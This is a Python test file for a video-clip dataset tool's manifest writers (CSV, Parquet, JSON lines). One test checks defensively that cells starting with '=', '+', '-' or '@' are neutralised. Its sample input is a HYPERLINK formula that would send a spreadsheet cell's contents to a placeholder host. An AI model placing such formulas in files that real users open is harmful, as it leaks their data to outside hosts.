"""Rows of the manifests as files: what a spreadsheet would run as a formula is text, and comes back as it was."""

import csv
import io
import json

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from clipscout.transforms.core.queries import query_files
from clipscout.transforms.core.results import manifests


@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_a_spreadsheet_runs_no_cell_of_ours(sign):
    formula = f'{sign}HYPERLINK("http://host/?"&A1)'
    written = "".join(manifests.kinetics_csv([(formula, "-8Appls4ZFg", "1.000", "2.000", formula, "", "", "")]))
    ((label, video_id, *_, split),) = list(csv.reader(io.StringIO(written)))[1:]
    assert (label, split) == (f"'{formula}", f"'{formula}")
    assert video_id == "-8Appls4ZFg"  # is none, and other tools read it
    (query,) = query_files.read(io.BufferedReader(io.BytesIO(written.encode())), "spans.csv")
    assert (query.action, query.extra["split"]) == (formula, formula)


def test_spans_by_score_rank_over_all_videos_of_an_action():
    names = ("action", "score", "clip", "start_seconds", "end_seconds", "source", "title", "licence", "key", "id")
    row = lambda action, score: dict.fromkeys(names, "=1+1") | {"action": action, "score": score}  # noqa: E731
    rows = [manifests.by_score_row(row(*span)) for span in (("a", 0.9), ("a", 0.123456789), ("b", 0.5))]
    header, *found = csv.reader(manifests.by_score_csv(rows))
    assert header == ["action_rank", *names]
    assert [cells[:3] for cells in found] == [["1", "a", "0.9"], ["2", "a", "0.123457"], ["1", "b", "0.5"]]
    assert found[0][3] == "'=1+1"


@pytest.mark.parametrize("count", [0, 1, 7])
def test_parquet_has_the_rows_of_json_lines_however_many_are_written_at_once(count, monkeypatch):
    monkeypatch.setattr(manifests, "_ROW_GROUP", 3)
    columns = {"key": pa.string(), "size_bytes": pa.int64(), "asks": pa.string()}
    rows = [{"key": f"k{number}", "size_bytes": number, "asks": [{"action": "red"}]} for number in range(count)]
    file = io.BytesIO()
    manifests.write_parquet(file, rows, columns)
    table = pq.read_table(pa.BufferReader(file.getvalue()))
    assert table.schema.names == list(columns)
    assert [{**row, "asks": json.loads(row["asks"])} for row in table.to_pylist()] == rows
    assert [json.loads(line) for line in manifests.json_lines(rows)] == rows
